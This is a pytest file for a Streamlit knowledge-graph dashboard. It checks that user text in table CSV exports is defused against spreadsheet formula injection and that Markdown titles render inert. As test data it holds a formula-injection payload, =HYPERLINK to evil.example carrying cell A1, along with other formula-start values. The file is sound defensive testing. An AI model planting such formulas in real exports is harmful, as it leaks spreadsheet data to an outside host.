"""User text on the dashboard is data, in the two places Streamlit would act on it:

- every table on every page: Streamlit's toolbar offers "Download as CSV" of what the
  table holds, so a cell a spreadsheet would run as a formula must be defused there;
- every Markdown string (text, headings, captions, alerts): a title must show as typed,
  never as an image fetched from elsewhere, a link (bare URLs and e-mail addresses
  included, which GitHub-flavoured Markdown links by itself), a heading or HTML.

Both are checked on the source Streamlit receives, with the renderer's rules written out
in ``helpers/markdown_rules.py``; ``test_ui_browser`` checks the rendered page in Chromium.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd
from helpers.markdown_rules import MD_TITLE, assert_inert
from helpers.ui import PAGES, button, open_page
from streamlit.testing.v1 import AppTest

from kgraph.model import Edge, Node
from kgraph.store.embedded import EmbeddedStore
from kgraph.ui.pages import explore, questions

pytest_plugins = ["ui_fixtures"]

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
FORMULA_ID = "cq:formule"
MD_ID = "kq:markdown-proef"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def markdown_with_title(at: AppTest) -> list[str]:
    """Every Markdown string on the page that carries the title."""
    found = []
    for kind in ("markdown", "caption", "info", "success", "warning", "error", "subheader"):
        for element in getattr(at, kind):
            value = str(element.value)
            if "evil" in value:
                found.append(value)
    return found


# --- tables -------------------------------------------------------------------------------


def _cells(at: AppTest) -> list[str]:
    out: list[str] = []
    for table in at.dataframe:
        frame = table.value
        assert isinstance(frame, pd.DataFrame)
        out += [str(c) for c in frame.columns]
        out += [v for v in frame.to_numpy().ravel().tolist() if isinstance(v, str)]
    return out


def test_no_table_on_any_page_holds_a_live_formula(db: Path, reader: EmbeddedStore) -> None:
    cop = reader.nodes(["cop"])[0]
    reader.add_node(
        Node(
            FORMULA_ID,
            "complex_question",
            FORMULA,
            tags=("+cmd", "-2+3"),
            props={"owner": "@SUM(A1)", "opmerking": "\tverborgen"},
        )
    )
    reader.add_edge(Edge(FORMULA_ID, "RAISED_IN", cop.id))
    reader.update_node(FORMULA_ID, {"status": "in_progress"}, actor="=1+1")
    at = open_page("questions", name="Ada")
    seen = _cells(at)
    assert "'" + FORMULA in seen, "the title is not in the Vragen table, defused"
    assert "'@SUM(A1)" in seen
    at.session_state[explore.FOCUS] = [FORMULA_ID]
    at.session_state[explore.SELECTED] = FORMULA_ID
    checked = {"questions": seen}
    for name in PAGES:
        at.switch_page(PAGES[name]).run()
        assert not at.exception, [e.message for e in at.exception]
        checked[name] = _cells(at)
    defused_on = sorted(name for name, cells in checked.items() if "'" + FORMULA in cells)
    assert len(defused_on) >= 3, f"the title is in few tables: {defused_on}"
    live = {
        name: [c for c in cells if c.startswith(FORMULA_START)] for name, cells in checked.items()
    }
    assert not any(live.values()), f"live formulas in tables: {live}"


# --- Markdown -----------------------------------------------------------------------------


def test_a_markdown_title_shows_as_typed_on_every_page(db: Path, reader: EmbeddedStore) -> None:
    cq = reader.nodes(["complex_question"])[0]
    reader.add_node(Node(MD_ID, "knowledge_question", MD_TITLE, status="open"))
    reader.add_edge(Edge(MD_ID, "FEEDS", cq.id))
    at = open_page("questions", name="Ada")
    # saving shows the title in the confirmation
    at.selectbox(key=questions.EDITING).set_value(MD_ID).run()
    at.selectbox(key=f"q_status_{MD_ID}").set_value("in_progress")
    button(at, "Opslaan").click().run()
    assert not at.exception
    sources = markdown_with_title(at)
    # the details heading and a path through it on Verkennen
    at.session_state[explore.FOCUS] = [MD_ID]
    at.session_state[explore.SELECTED] = MD_ID
    at.session_state[explore.PATH] = [MD_ID, cq.id]
    at.session_state[explore.PATHS] = [[MD_ID, cq.id]]
    at.switch_page(PAGES["explore"]).run()
    assert not at.exception
    on_explore = markdown_with_title(at)
    assert any(s.startswith("#### ") for s in on_explore), on_explore
    sources += on_explore
    # the path's label (radio options are Markdown too)
    sources += [o for o in at.radio(key="explore_path_choice").options if "evil" in o]
    # the confirmation before a delete
    at.switch_page(PAGES["questions"]).run()
    at.selectbox(key=questions.EDITING).set_value(MD_ID).run()
    button(at, "Verwijderen…").click().run()
    sources += markdown_with_title(at)
    assert len(sources) >= 4, sources
    for source in sources:
        assert_inert(source, MD_TITLE)


def test_an_unlanded_markdown_title_is_inert_on_the_handover_page(
    db: Path, reader: EmbeddedStore
) -> None:
    reader.add_node(Node("cq:markdown-proef", "complex_question", MD_TITLE))
    at = open_page("handover")
    sources = markdown_with_title(at)
    assert sources, "the unlanded question is not listed"
    for source in sources:
        assert_inert(source, MD_TITLE)
